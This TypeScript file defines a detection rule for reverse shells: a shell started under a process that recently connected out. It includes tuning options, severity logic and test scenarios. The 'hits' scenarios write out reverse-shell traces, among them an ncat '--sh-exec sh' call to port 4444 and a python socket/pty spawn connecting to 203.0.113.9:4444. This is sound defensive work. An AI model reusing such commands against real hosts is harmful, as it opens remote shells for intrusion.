import type { DetectionCase } from '../../model/detection-case.js';
import type { Level } from '../../model/finding.js';
import type { Process } from '../../model/process.js';
import { type Contact, contactsOf, isCalled, isOpenAt, isRoutine } from '../contact.js';
import type { Draft } from '../draft.js';
import { ancestorsInside, imageAt, programName, type ShellStart, seconds, shellsCommandedByInput } from '../lineage.js';
import { isLoginServer, isNetworkTool, isRemoteAgent } from '../programs.js';
import { defineRule } from '../rule.js';
import { scenario } from '../scenario.js';
import { isForeign } from '../shell.js';
import { apart, command, contactEvidence, destination, imageEvidence, processEvidence, related, span } from '../wording.js';

const OLD_US = seconds(60);

export const reverseShellDescendant = defineRule({
  id: 'reverse-shell-descendant',
  title: 'Shell below a process that had just connected',
  description:
    'A shell that reads its commands from its input starts below a process that connected to another host moments before and kept the ' +
    'connection: an interpreter, socat or ncat that hands its socket, a pipe or a terminal to the shell. Login servers are called and do ' +
    'not call; a destination that the process calls all the time proves little, and neither does a connection that a server has had for a while.',
  level: 'critical',
  stage: 'shell',
  attack: ['T1059.004', 'T1095'],
  needs: ['connections'],
  options: {
    windowSeconds: {
      value: 30,
      description: 'Longest time from the connection to the shell. Observed: under a second. No bound for a program that nobody installed.',
    },
    serviceSeconds: {
      value: 3,
      description: 'The same for a server that has long been there: later than that, a bare shell is more likely fed a script by it.',
    },
    generations: {
      value: 4,
      description: 'How far above the shell the connecting process may stand: wrappers such as `sh -c` lie between.',
    },
  },
  falsePositives: [
    'Remote-support and deployment agents (Teleport, SSM, CI runners) that call home and open a shell: the known ones are reported as medium.',
    'A service that calls another and feeds a script to `sh` on its standard input at the same moment.',
  ],
  *run({ view, option, suspects }) {
    const window = seconds(option('windowSeconds'));
    for (const shell of shellsCommandedByInput(suspects)) {
      const above = ancestorsInside(view, shell.process, option('generations'));
      const contact = nearestContact(view, shell, above, window);
      if (contact !== undefined) yield draft(shell, contact, levelOf(view, shell, above, contact, seconds(option('serviceSeconds'))));
    }
  },
  hits: [
    scenario(
      'an interpreter connects and spawns a shell on a terminal',
      `
      container web
      0       node server.js
      1200      python3 -c "import socket,os,pty"
      1200.5      > tcp 203.0.113.9:4444
      1200.6      /bin/bash
      1202          id
    `,
    ),
    scenario(
      'an implant waits for hours before it opens a shell',
      `
      container web
      0       node server.js
      1200      /tmp/.cache/agent
      1200.1      > tcp 203.0.113.9:443
      9000        /bin/sh
    `,
    ),
    scenario(
      'ncat runs a shell through a wrapper',
      `
      container web
      0       node server.js
      1200      ncat 10.0.9.9 4444 --sh-exec sh
      1200.1      > tcp 203.0.113.9:4444
      1200.2      sh -c sh
      1200.3        sh
    `,
    ),
  ],
  nearMisses: [
    scenario(
      'a login over ssh',
      `
      container gateway
      0     /usr/sbin/sshd -D
      0.1     listen tcp 22
      60      /usr/sbin/sshd -D -R
      60.1      < tcp 10.0.0.8:51000 on 22
      60.2      > tcp 10.0.0.5:389
      61        fork
      61.1        => /bin/bash
    `,
    ),
    scenario(
      'a worker runs a script text between calls to its queue',
      `
      container worker
      0     python3 worker.py
      1       > tcp 10.0.0.20:5672 until 2
      11      > tcp 10.0.0.20:5672 until 12
      21      > tcp 10.0.0.20:5672 until 22
      31      > tcp 10.0.0.20:5672
      32      bash
      32.1      sort
    `,
    ),
    scenario(
      'a worker with one lasting connection feeds a script to sh',
      `
      container worker
      0     python3 /opt/worker.py
      1       > tcp 10.0.0.20:5432
      11      sh
      11.1      sort
    `,
    ),
    scenario(
      'a health check, then somebody opens a terminal elsewhere',
      `
      container web
      0     node server.js
      400     > tcp 10.0.0.20:5432
      405   bash -i {entered}
    `,
    ),
  ],
});

function nearestContact(view: DetectionCase, shell: ShellStart, above: readonly Process[], window: number): Contact | undefined {
  for (const ancestor of above) {
    const contact = contactsOf(view, ancestor).findLast(
      (one) => one.atUs <= shell.atUs && isOpenAt(one.connection, shell.atUs) && (shell.atUs - one.atUs <= window || isImplant(one)),
    );
    if (contact !== undefined) return contact;
  }
  return undefined;
}

/** A server that has long been there, and whose connection has nothing to do with the moment in which the shell starts. */
function isService(shell: ShellStart, contact: Contact, atOnce: number): boolean {
  const { process } = contact;
  const image = imageAt(process, contact.atUs) ?? process;
  const isOld = process.isMain || shell.atUs - (process.imageStartedAtUs ?? shell.atUs) >= OLD_US;
  return isOld && shell.atUs - contact.atUs > atOnce && !isForeign(image) && !isNetworkTool(programName({ ...process, ...image }));
}

/** A program that nobody installed may hold its connection for hours before its owner asks for a shell. */
function isImplant(contact: Contact): boolean {
  return contact.isExternal && isForeign(imageAt(contact.process, contact.atUs) ?? contact.process);
}

function draft(shell: ShellStart, contact: Contact, level: Level): Draft {
  const client = contact.process;
  const where = destination(contact.connection);
  const image = imageAt(client, contact.atUs) ?? client;
  return {
    level,
    title: `${command(shell.image)} commanded from ${where} through ${programName({ ...client, ...image })}`,
    why: `${command(image)} (pid ${client.pid}) connected to ${where}, and ${apart(shell.atUs - contact.atUs)} later ${command(shell.image)} (pid ${shell.process.pid}) started below it; the connection was still open.`,
    process: shell.process,
    ...span(contact.atUs, shell.atUs),
    connections: [contact.connection],
    related: [related(shell.process, 'shell'), related(client, 'client')],
    evidence: [...processEvidence(client), ...contactEvidence(contact), ...imageEvidence(shell.process, shell.image)],
    members: [shell.process.id, client.id],
  };
}

function levelOf(view: DetectionCase, shell: ShellStart, above: readonly Process[], contact: Contact, atOnce: number): Level {
  const name = programName(contact.process);
  if (isRemoteAgent(name)) return 'medium';
  if (isLoginServer(name) && isCalled(view, above)) return 'low';
  const isGuess = contact.connection.directionIsInferred && contact.connection.protocol === 'tcp' && !isForeign(contact.process);
  const isFedByService =
    shell.kind !== 'interactive' && (isGuess || isRoutine(contact, contactsOf(view, contact.process)) || isService(shell, contact, atOnce));
  if (isFedByService) return 'medium';
  return contact.isExternal ? 'critical' : 'high';
}
